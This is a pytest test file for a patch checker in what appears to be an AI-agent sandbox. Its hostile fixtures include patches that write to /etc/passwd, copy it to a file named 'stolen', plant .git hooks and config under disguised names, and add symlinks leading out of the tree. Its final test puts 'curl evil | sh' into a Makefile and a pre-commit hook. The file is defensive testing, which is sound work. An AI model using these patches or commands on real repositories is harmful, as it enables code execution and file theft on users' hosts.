"""patchcheck reads the patch an isolated run proposes as git writes it, and refuses what must not
reach the host.

Safe patches come from real git (names with spaces, quotes and unicode, binary files, symbolic
links, renames, mode changes, deletions) and must parse to exactly the changes made, with
`git apply` taking the same patch; hostile patches are written by hand, each refused with a message
that names the path and the rule.
"""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from agentbox.review import patchcheck, tripwire
from agentbox.review.patchcheck import FileChange, PatchError, parse, problems

# Quick tests (no VM): a minute each at most, not the suite's 300 s.
pytestmark = [pytest.mark.needs("git"), pytest.mark.timeout(60)]

ENV = {**os.environ, "GIT_CONFIG_NOSYSTEM": "1", "GIT_CONFIG_GLOBAL": "/dev/null"}
GIT = ["git", "-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "commit.gpgsign=false",
       "-c", "init.defaultBranch=main", "-c", "core.quotepath=true"]
ZERO = "0" * 40
H1 = "e69de29bb2d1d6434b8b29ae775ad8c2e48c5391"
H2 = "8d0cd2ad57642d7d820fcd1eb42b7f7e04042d0e"


def git(repo: Path, *args: str, input: bytes | None = None, check: bool = True) -> subprocess.CompletedProcess:
    return subprocess.run([*GIT, *args], cwd=repo, input=input, capture_output=True, env=ENV, check=check)


def write(path: Path, data: bytes | str, mode: int = 0o644) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data.encode() if isinstance(data, str) else data)
    os.chmod(path, mode)


def link(path: Path, target: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    if path.is_symlink() or path.exists():
        path.unlink()
    os.symlink(target, path)


def proposal(repo: Path, *extra: str) -> bytes:
    """The patch an isolated run hands back: every change against HEAD, untracked files included."""
    git(repo, "add", "-A")
    return git(repo, "diff", "--binary", "--full-index", *extra, "HEAD").stdout


def new_repo(repo: Path) -> None:
    repo.mkdir()
    git(repo, "init", "-q")


def commit(repo: Path) -> None:
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "base")


def applies(repo: Path, patch: bytes, base: Path) -> None:
    """git takes the patch on a clone of HEAD, and the result is the tree the patch was made from."""
    git(repo.parent, "clone", "-q", str(repo), str(base))
    check = git(base, "apply", "--check", "--index", input=patch, check=False)
    assert check.returncode == 0, check.stderr.decode()
    git(base, "apply", "--index", input=patch)
    assert git(base, "write-tree").stdout == git(repo, "write-tree").stdout


# -- real patches ------------------------------------------------------------------------------


def test_a_generated_patch_parses_to_exactly_the_changes_made_and_git_applies_it(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    new_repo(repo)
    write(repo / "plain", "a\nb\nc\n")
    write(repo / "with space.txt", "".join(f"line {i}\n" for i in range(20)))
    write(repo / "long name", "".join(f"l{i}\n" for i in range(30)))
    write(repo / "small.bin", b"\0\1\2bin")
    write(repo / "big.bin", bytes(range(256)) * 12)
    link(repo / "lnk", "plain")
    link(repo / "was link", "plain")
    write(repo / "becomes link", "tt\n")
    write(repo / "modeonly", "z\n")
    write(repo / "d" / "gone", "q\n")
    write(repo / "crlf.txt", "one\r\ntwo\r\n")
    commit(repo)

    write(repo / "plain", "a\nB\nc")
    (repo / "moved").mkdir()
    os.rename(repo / "with space.txt", repo / "moved" / "with space.txt")
    os.rename(repo / "long name", repo / "renamed \"x\" é")
    with open(repo / "renamed \"x\" é", "a") as handle:
        handle.write("extra\n")
    os.chmod(repo / "renamed \"x\" é", 0o755)
    write(repo / "small.bin", b"\0\1\3bin")
    write(repo / "big.bin", bytes(range(256)) * 11 + b"\0changed")
    link(repo / "lnk", "new target")
    link(repo / "sub" / "up", "../plain")
    (repo / "was link").unlink()
    write(repo / "was link", "now a file\n")
    (repo / "becomes link").unlink()
    link(repo / "becomes link", "d")
    os.chmod(repo / "modeonly", 0o755)
    write(repo / "crlf.txt", "one\r\nTWO\r\n")
    (repo / "d" / "gone").unlink()
    write(repo / "empty", "")
    write(repo / "日本 ünï.txt", "u\n")
    write(repo / "ends in space ", "s\n")
    write(repo / "new.bin", b"nb\0")
    patch = proposal(repo)

    assert b'"b/\\346\\227\\245' in patch  # core.quotepath=true: the unicode name is quoted in octal
    assert b"\n-two\r\n+TWO\r\n" in patch  # a CR inside content is content
    changes = parse(patch)
    assert changes == [
        FileChange("deleted", "becomes link", None, "100644", None, False, None, 0, 1),
        FileChange("added", None, "becomes link", None, "120000", False, "d", 1, 0),
        FileChange("modified", "big.bin", "big.bin", "100644", "100644", True, None, 0, 0),
        FileChange("modified", "crlf.txt", "crlf.txt", "100644", "100644", False, None, 1, 1),
        FileChange("deleted", "d/gone", None, "100644", None, False, None, 0, 1),
        FileChange("added", None, "empty", None, "100644", False, None, 0, 0),
        FileChange("added", None, "ends in space ", None, "100644", False, None, 1, 0),
        FileChange("modified", "lnk", "lnk", "120000", "120000", False, "new target", 1, 1),
        FileChange("mode", "modeonly", "modeonly", "100644", "100755", False, None, 0, 0),
        FileChange("renamed", "with space.txt", "moved/with space.txt", None, None, False, None, 0, 0),
        FileChange("added", None, "new.bin", None, "100644", True, None, 0, 0),
        FileChange("modified", "plain", "plain", "100644", "100644", False, None, 2, 2),
        FileChange("renamed", "long name", 'renamed "x" é', "100644", "100755", False, None, 1, 0),
        FileChange("modified", "small.bin", "small.bin", "100644", "100644", True, None, 0, 0),
        FileChange("added", None, "sub/up", None, "120000", False, "../plain", 1, 0),
        FileChange("deleted", "was link", None, "120000", None, False, None, 0, 1),
        FileChange("added", None, "was link", None, "100644", False, None, 1, 0),
        FileChange("added", None, "日本 ünï.txt", None, "100644", False, None, 1, 0),
    ]
    assert problems(changes) == []
    applies(repo, patch, tmp_path / "base")


def test_raw_utf8_names_and_copies_parse_too(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    new_repo(repo)
    write(repo / "src" / "orig.py", "".join(f"x = {i}\n" for i in range(20)))
    commit(repo)
    write(repo / "src" / "copy é.py", "".join(f"x = {i}\n" for i in range(20)))
    git(repo, "add", "-A")
    patch = git(repo, "-c", "core.quotepath=false", "diff", "--binary", "--full-index", "-C", "--find-copies-harder",
                "HEAD").stdout
    assert "copy é.py".encode() in patch and b"copy from src/orig.py" in patch
    assert parse(patch) == [FileChange("copied", "src/orig.py", "src/copy é.py", None, None, False, None, 0, 0)]
    assert problems(parse(patch)) == []
    applies(repo, patch, tmp_path / "base")


def test_binary_files_without_data_and_complete_rewrites_parse(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    new_repo(repo)
    write(repo / "data.bin", b"\0old")
    write(repo / "text", "".join(f"old line {i}\n" for i in range(100)))
    commit(repo)
    write(repo / "data.bin", b"\0new")
    write(repo / "text", "".join(f"new line {i}\n" for i in range(120)))
    git(repo, "add", "-A")
    patch = git(repo, "diff", "--full-index", "-B", "HEAD").stdout
    assert b"Binary files a/data.bin and b/data.bin differ" in patch and b"dissimilarity index 100%" in patch
    assert parse(patch) == [
        FileChange("modified", "data.bin", "data.bin", "100644", "100644", True, None, 0, 0),
        FileChange("modified", "text", "text", "100644", "100644", False, None, 120, 100),
    ]


def test_names_with_control_characters_are_decoded_exactly_and_refused(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    new_repo(repo)
    write(repo / "keep", "k\n")
    commit(repo)
    for name in ("tab\there", "new\nline", "esc\x1b[31mred", "bell\x07"):
        write(repo / name, "n\n")
    changes = parse(proposal(repo))
    assert [change.new_path for change in changes] == ["bell\x07", "esc\x1b[31mred", "new\nline", "tab\there"]
    assert problems(changes) == [
        "bell\\x07: a name with a control character",
        "esc\\x1b[31mred: a name with a control character",
        "new\\nline: a name with a control character",
        "tab\\there: a name with a control character",
    ]


def test_an_empty_patch_has_no_changes() -> None:
    assert parse(b"") == []
    assert problems([]) == []


# -- hostile patches ---------------------------------------------------------------------------


def added(name: str, body: str = "+x\n", mode: str = "100644", count: int = 1) -> str:
    """A new file as git writes it, name as it appears after the a/ and b/ prefixes (quoted names
    are given with their quotes as `"..."`)."""
    if name.startswith('"'):
        a, b = f'"a/{name[1:]}', f'"b/{name[1:]}'
    else:
        a, b = f"a/{name}", f"b/{name}"
    return (f"diff --git {a} {b}\nnew file mode {mode}\nindex {ZERO}..{H1}\n--- /dev/null\n+++ {b}\n"
            f"@@ -0,0 +1{'' if count == 1 else f',{count}'} @@\n{body}")


def symlink(name: str, target: str) -> str:
    return added(name, f"+{target}\n\\ No newline at end of file\n", mode="120000")


REFUSED = {
    "absolute path": (added("/etc/passwd"), ["/etc/passwd: an absolute path"]),
    "dot-dot path": (added("../outside"), ["../outside: a `.` or `..` component"]),
    "dot-dot inside a path": (added("../../etc/passwd"), ["../../etc/passwd: a `.` or `..` component"]),
    "dot component": (added("./x"), ["./x: a `.` or `..` component"]),
    "empty component": (added("a//x"), ["a//x: an empty path component (`//` or a trailing `/`)"]),
    "git hook": (added(".git/hooks/pre-commit"),
                 [".git/hooks/pre-commit: inside a git folder (`.git`): host git reads its config and runs its hooks"]),
    "git config in upper case": (added(".GIT/config"),
                                 [".GIT/config: inside a git folder (`.git`): host git reads its config and runs its hooks"]),
    "nested git folder": (added("sub/.git/config"),
                          ["sub/.git/config: inside a git folder (`.git`): host git reads its config and runs its hooks"]),
    "git folder with trailing dots": (added(".git. ./config"), [".git. ./config: inside a git folder (`.git`): "
                                                                "host git reads its config and runs its hooks"]),
    "git folder short name": (added("GIT~1/config"),
                              ["GIT~1/config: inside a git folder (`.git`): host git reads its config and runs its hooks"]),
    "git folder with an invisible character": (
        added('".g\\342\\200\\214it/config"'),
        [".g\\u200cit/config: inside a git folder (`.git`): host git reads its config and runs its hooks"]),
    "agentbox folder": (added("sub/.agentbox/state"), ["sub/.agentbox/state: inside agentbox's own folder (`.agentbox`)"]),
    "agentbox config": (added("agentbox.yml"), ["agentbox.yml: agentbox's own file (change it by hand, after reading it)"]),
    "symlink to the root": (symlink("root", "/"), ["root: a symbolic link to an absolute path (/)"]),
    "symlink up and out": (symlink("sub/up", "../../.."), ["sub/up: a symbolic link to ../../.., which leads out of the tree"]),
    "symlink through a folder and back": (symlink("l", "sub/../../x"),
                                          ["l: a symbolic link to sub/../../x, with `..` after a folder name"]),
    "symlink into git": (symlink("hooks", ".git/hooks"),
                         ["hooks: a symbolic link to .git/hooks, into a git folder or agentbox's own folder"]),
    "symlink as gitattributes": (symlink(".gitattributes", "x"),
                                 [".gitattributes: a symbolic link with a name git reads from the work tree (git refuses these)"]),
    "symlink as binary": (
        f"diff --git a/l b/l\nnew file mode 120000\nindex {ZERO}..{H1}\nGIT binary patch\nliteral 6\n"
        "NcmZQzWKPP=0{{Yj0X_f#\n\nliteral 0\nHcmV?d00001\n\n",
        ["l: a symbolic link given as binary data: its target cannot be checked"]),
    "file written through a new symlink": (symlink("ln", "sub") + added("ln/x"),
                                           ["ln/x: written through the symbolic link ln that the same patch creates"]),
    "rename out of the tree": (
        "diff --git a/a b/../a\nsimilarity index 100%\nrename from a\nrename to ../a\n",
        ["../a: a `.` or `..` component (the destination of a rename)"]),
    "copy from /etc/passwd": (
        "diff --git a//etc/passwd b/stolen\nsimilarity index 100%\ncopy from /etc/passwd\ncopy to stolen\n",
        ["/etc/passwd: an absolute path (the source of a copy)"]),
    "submodule": (added("vendor/lib", f"+Subproject commit {H2}\n", mode="160000"),
                  ["vendor/lib: a submodule (gitlink): it changes what git on your host fetches"]),
    "NUL in a quoted name": (added('"nul\\000x"'), ["nul\\x00x: a name with a control character"]),
    "ESC in a quoted name": (added('"\\033[2Jx"'), ["\\x1b[2Jx: a name with a control character"]),
    "invalid UTF-8": (added('"bad\\377name"'), ["bad\\xffname: a name that is not valid UTF-8"]),
    "a file twice": (added("x") + added("x"), ["x: changed twice in one patch"]),
    "a file twice by case": (added("README") + added("readme"), [
        "readme: changed twice in one patch (under another name of the same file on a case-insensitive file system)"]),
    "moved up without saying whether it is a link": (
        "diff --git a/a/b/l b/l\nsimilarity index 100%\nrename from a/b/l\nrename to l\n",
        ["l: moved up from a/b/l without the patch saying whether it is a symbolic link "
         "(whose relative target could then lead out of the tree)"]),
}


@pytest.mark.parametrize("name", REFUSED)
def test_hostile_patches_are_refused_naming_the_path_and_the_rule(name: str) -> None:
    patch, expected = REFUSED[name]
    assert problems(parse(patch.encode())) == expected


MALFORMED = {
    "CR in a name": (f"diff --git a/x\ry b/x\ry\nnew file mode 100644\nindex {ZERO}..{H1}\n",
                     "line 1: a carriage return in a name (`a/x\\ry b/x\\ry`); git quotes such names, so the patch "
                     "was changed after git wrote it (CRLF line endings?)"),
    "CRLF line endings": (added("x").replace("\n", "\r\n"), "line 1: the line ends in a carriage return: git writes "
                                                           "none there, so the patch was changed after git wrote it "
                                                           "(CRLF line endings?)"),
    "truncated binary block": (
        f"diff --git a/b b/b\nnew file mode 100644\nindex {ZERO}..{H2}\nGIT binary patch\nliteral 6\n"
        "NcmZQzWKPP=0{{Yj0X_f#\n",
        "line 7: the patch ends where the rest of a binary patch was expected (cut short?)"),
    "binary data of the wrong length": (
        f"diff --git a/b b/b\nnew file mode 100644\nindex {ZERO}..{H2}\nGIT binary patch\nliteral 6\n"
        "NcmZQzWKPP=0{{Y\n\n",
        "line 6: not a line of base85 data: `NcmZQzWKPP=0{{Y`"),
    "hunk longer than counted": (added("x", "+x\n+y\n"), "line 8: the hunk at line 6 has more lines than its header counts"),
    "hunk shorter than counted": (added("x", "+x\n", count=2), "line 8: the hunk at line 6 ends early, 0 old and 1 new "
                                                               "lines short (cut short?)"),
    "hunk with lines of the wrong side": (
        f"diff --git a/x b/x\nindex {H1}..{H2} 100644\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n-b\n+c\n",
        "line 7: the hunk at line 5 has more old lines than its header counts"),
    "empty line in a hunk": (
        f"diff --git a/x b/x\nindex {H1}..{H2} 100644\n--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n\n-a\n+c\n",
        "line 6: an empty line in the hunk at line 5 (git writes an empty context line as one space)"),
    "text before the first file": ("From: someone\n" + added("x"), "line 1: expected a `diff --git` line, found `From: someone`"),
    "text after a file": (added("x") + "junk\n", "line 8: expected the next `diff --git` line, found `junk`"),
    "no final newline": (added("x")[:-1], "line 7: the patch ends in the middle of a line (cut short?)"),
    "abbreviated index": ("diff --git a/x b/x\nindex e69de29..8d0cd2a 100644\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n",
                          "line 2: expected `index <full hash>..<full hash> [mode]`, found `e69de29..8d0cd2a 100644` "
                          "(the patch must be made with --full-index)"),
    "unknown mode": (added("x", mode="100664"), "line 2: `100664` is not a file mode git writes"),
    "different names without a rename": ("diff --git a/x b/y\nold mode 100644\nnew mode 100755\n",
                                         "line 1: `a/x b/y` is not one name twice, and no rename or copy lines name the two"),
    "names that disagree": (f"diff --git a/x b/x\nnew file mode 100644\nindex {ZERO}..{H1}\n--- /dev/null\n+++ b/y\n"
                            "@@ -0,0 +1 @@\n+x\n", "line 1: the `diff --git` names disagree with the lines below it"),
    "a change of type in place": ("diff --git a/x b/x\nold mode 100644\nnew mode 120000\n",
                                  "line 1: a change of file type in place (git writes it as a deletion and an addition)"),
    "unknown escape": (added('"x\\qy"'), "line 5: an unknown escape in a quoted name: `\\qy\"`"),
    "unknown header": ("diff --git a/x b/x\nfrobnicate 1\n", "line 2: expected the next `diff --git` line, found `frobnicate 1`"),
    "nothing changed": ("diff --git a/x b/x\n", "line 1: the change of `x` shows neither a mode change nor content"),
    "a new file that removes lines": (
        f"diff --git a/x b/x\nnew file mode 100644\nindex {ZERO}..{H1}\n--- /dev/null\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n",
        "line 1: a new file whose hunks remove lines"),
}


@pytest.mark.parametrize("name", MALFORMED)
def test_malformed_patches_name_the_line_and_what_was_wrong(name: str) -> None:
    patch, expected = MALFORMED[name]
    with pytest.raises(PatchError) as caught:
        parse(patch.encode())
    assert str(caught.value).startswith(expected)


def test_git_apply_rejects_a_hunk_whose_counts_do_not_match_too(tmp_path: Path) -> None:
    """The count rule is git's: a patch refused here is not one git would apply."""
    repo = tmp_path / "repo"
    new_repo(repo)
    patch = MALFORMED["hunk shorter than counted"][0].encode()
    assert git(repo, "apply", "--check", input=patch, check=False).returncode != 0


def test_size_and_file_count_are_capped(monkeypatch: pytest.MonkeyPatch) -> None:
    patch = (added("a") + added("b") + added("c")).encode()
    with pytest.raises(PatchError, match=f"^the patch is {len(patch)} bytes, more than the limit of 100$"):
        parse(patch, limit=100)
    assert len(parse(patch, limit=len(patch))) == 3
    monkeypatch.setattr(patchcheck, "MAX_FILES", 2)
    with pytest.raises(PatchError, match=r"^line 15: the patch changes more than 2 files$"):
        parse(patch)


def test_a_symlink_target_is_known_only_when_the_patch_shows_all_of_it() -> None:
    whole = symlink("l", "a\nb")  # a target may hold a newline: two + lines, the last unterminated
    assert parse(whole.replace("+a\nb\n", "+a\n+b\n").replace("+1 @@", "+1,2 @@").encode())[0].symlink_target == "a\nb"
    partial = (f"diff --git a/l b/l\nindex {H1}..{H2} 120000\n--- a/l\n+++ b/l\n@@ -5,2 +5,2 @@\n a\n-b\n+c\n"
               "\\ No newline at end of file\n")
    assert parse(partial.encode())[0].symlink_target is None
    assert problems(parse(partial.encode())) == ["l: a symbolic link whose target the patch does not show in full"]


def test_a_rename_the_patch_does_not_type_is_decided_by_the_link_it_moves() -> None:
    changes = parse(REFUSED["moved up without saying whether it is a link"][0].encode())
    assert problems(changes, link_target=lambda path: None) == []
    assert problems(changes, link_target=lambda path: "x") == []
    # From a/b/l, ../x is a/x; moved to the top folder, it leads out.
    assert problems(changes, link_target={"a/b/l": "../x"}.get) == [
        "l: a symbolic link to ../x, which leads out of the tree (the destination of a rename)"]


def test_a_file_replaced_by_a_link_is_one_change_but_a_link_written_through_is_not() -> None:
    deleted = f"diff --git a/x b/x\ndeleted file mode 100644\nindex {H1}..{ZERO}\n--- a/x\n+++ /dev/null\n@@ -1 +0,0 @@\n-a\n"
    assert problems(parse((deleted + symlink("x", "y")).encode())) == []
    assert problems(parse((deleted + added("x")).encode())) == ["x: changed twice in one patch"]


# -- files the host runs -----------------------------------------------------------------------


def test_host_exec_matcher_follows_the_tripwire_list(tmp_path: Path) -> None:
    workspace = tmp_path / "ws"
    workspace.mkdir()
    git(workspace, "init", "-q", f"--separate-git-dir={workspace / 'gitdata'}")
    runs = tripwire.host_exec_matcher(workspace)
    for path in ("Makefile", "MAKEFILE", "package.json", ".envrc", ".vscode/tasks.json", ".vscode", ".husky/pre-commit",
                 ".husky/_/husky.sh", ".github/workflows/ci.yml", ".github", ".gitattributes",
                 "gitdata/config", "gitdata/hooks/pre-commit", "gitdata/HOOKS/post-checkout"):
        assert runs(path), path
    for path in ("src/main.py", "README.md", ".github/CODEOWNERS", "Makefile.txt", "gitdata/description"):
        assert not runs(path), path
    # Every label the tripwire watches inside the workspace is matched: the list is the tripwire's.
    for label in tripwire.watched_paths(workspace):
        if not os.path.isabs(label):
            assert runs(label), label


def test_changes_to_files_the_host_runs_need_allowing(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    new_repo(repo)
    write(repo / "Makefile", "all:\n\techo hi\n")
    commit(repo)
    write(repo / "Makefile", "all:\n\tcurl evil | sh\n")
    write(repo / ".husky" / "pre-commit", "curl evil | sh\n")
    write(repo / "src" / "ok.py", "x = 1\n")
    changes = parse(proposal(repo))
    runs = tripwire.host_exec_matcher(repo)
    refusal = "a file your host runs without asking (hooks, build files, editor tasks); refused unless host execution is allowed"
    assert problems(changes, host_exec=runs) == [f".husky/pre-commit: {refusal}", f"Makefile: {refusal}"]
    assert problems(changes, host_exec=runs, allow_host_exec=True) == []
